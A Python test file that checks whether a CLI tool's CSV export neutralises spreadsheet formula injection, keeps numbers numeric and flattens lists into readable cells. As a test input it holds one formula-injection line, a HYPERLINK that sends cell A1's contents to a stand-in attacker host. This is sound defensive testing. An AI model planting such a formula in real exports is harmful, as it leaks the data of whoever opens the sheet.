"""Lists as CSV: what a spreadsheet takes for a formula is text, numbers are numbers, and nobody has to read JSON in a cell."""

from __future__ import annotations

import csv
import io
from collections.abc import Sequence
from typing import Any

import pytest

from plein.commands import ending
from tests.cli.conftest import At, Cli

EVIL = '=HYPERLINK("https://evil.example/?"&A1,"Click")'


def sheet(text: str) -> list[dict[str, str]]:
    """The rows of a sheet, as a spreadsheet would see them."""
    return list(csv.DictReader(io.StringIO(text, newline="")))


def printed(capsys: pytest.CaptureFixture[str], values: Sequence[Any]) -> list[dict[str, str]]:
    """What a list of these values is as a sheet."""
    ending.listed(values, (), as_json=False, as_csv=True)
    return sheet(capsys.readouterr().out)


def test_what_somebody_contributed_reaches_for_nothing(call: Cli, at: At) -> None:
    """Staff open the list on a machine that can read more than the list."""
    at("inventory")
    assert call("inventory", "add", "housing", EVIL, as_="@wim").code == 0
    call("inventory", "nudge", "housing", "1", "--because", "-2+3", as_="kim")

    for words in ("inventory list housing", "log housing", "group list housing", "person list"):
        for row in sheet(call(*words.split(), "--csv").out):
            assert not any(cell[:1] in tuple("=+-@＝＋－＠\t\r") for cell in row.values() if not cell.lstrip("-").isdigit()), (words, row)
    said = sheet(call("inventory", "list", "housing", "--csv").out)[-1]
    assert (said["text"], said["author"]) == (f"'{EVIL}", "'@wim")


def test_the_sheet_comes_back_as_it_was(call: Cli, at: At) -> None:
    """Whoever takes a list from one cycle to another takes people's words along, and not an apostrophe more."""
    at("inventory")
    words = (EVIL, "- more trees", "'- with a quote", "+31 20 1234", "'s avonds")
    for text in words:
        call("inventory", "add", "housing", "-", stdin=text, as_="@wim")
    rows = sheet(call("inventory", "list", "housing", "--csv").out)

    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(("text", "author"))
    writer.writerows((row["text"], row["author"].replace("@wim", "@els")) for row in rows)
    assert call("inventory", "import", "housing", "-", stdin=out.getvalue()).code == 0

    back = [one for one in call("inventory", "list", "housing", "--json").json() if one["author"] == "@els"]
    assert [one["text"] for one in back] == list(words)


def test_numbers_stay_numbers(capsys: pytest.CaptureFixture[str]) -> None:
    """A column can be added up, below nought too."""
    (row,) = printed(capsys, [{"n": -3, "part": -0.5, "text": "-3", "nothing": None, "yes": True}])

    assert row == {"n": "-3", "part": "-0.5", "text": "'-3", "nothing": "", "yes": "yes"}


def test_a_list_is_its_parts(capsys: pytest.CaptureFixture[str]) -> None:
    """Nobody reads brackets and quotation marks; a sentence has commas of its own."""
    (row,) = printed(
        capsys,
        [
            {
                "numbers": [3, 8],
                "people": ["una", "vic"],
                "none": [],
                "reasons": ["first, this", "then that"],
                "nudges": [{"author": "kim", "because": "Be kind."}, {"author": "lea", "because": "Stay here."}],
                "decision": {"outcome": "adopted", "because": "Better."},
                "place": {"version": 2, "quote": "homes"},
                "formulas": ["=1+1", "x"],
            }
        ],
    )

    assert row == {
        "numbers": "3, 8",
        "people": "una, vic",
        "none": "",
        "reasons": "first, this; then that",
        "nudges": "author: kim, because: Be kind.; author: lea, because: Stay here.",
        "decision": "adopted",
        "place": "version: 2, quote: homes",
        "formulas": "'=1+1, x",
    }


def test_no_list_of_plein_holds_json_in_a_cell(call: Cli, at: At) -> None:
    """What a cell holds is for people; for programs there is --json."""
    at("final")
    call("inventory", "nudge", "housing", "1", "--because", "Be kind.", as_="kim")
    for words in ("inventory list housing", "suggestion list housing", "decision list housing", "draft list housing", "group list housing"):
        for row in sheet(call(*words.split(), "--csv").out):
            assert not any(cell.startswith(("[", "{")) or '": ' in cell for cell in row.values()), (words, row)


def test_a_nudge_in_a_cell_is_what_was_said_by_whom_and_when(call: Cli, at: At) -> None:
    """It read like a program's data; where a host hid the words, the reason stands in their place, and hosts see the words."""
    at("inventory")
    for person, said in (("kim", "Be kind."), ("lea", "You fool.")):
        call("inventory", "nudge", "housing", "1", "--because", said, as_=person)
    call("inventory", "hide", "housing", "1", "--nudge", "lea", "--because", "It is rude.")
    when = "2026-11-24T12:00:00+00:00"

    seen = {who: sheet(call("inventory", "list", "housing", "--csv", as_=who).out)[0]["nudges"] for who in ("anna", "kim", None)}

    everybody = f"Be kind. (kim, {when}); It is rude. (lea, {when}, hidden)"
    assert seen == {"anna": everybody.replace("It is rude.", "You fool."), "kim": everybody, None: everybody}
    keys = [
        list(call("inventory", "list", "housing", "--json").json()[0]),
        list(sheet(call("inventory", "list", "housing", "--csv").out)[0]),
    ]
    assert keys[0] == keys[1]
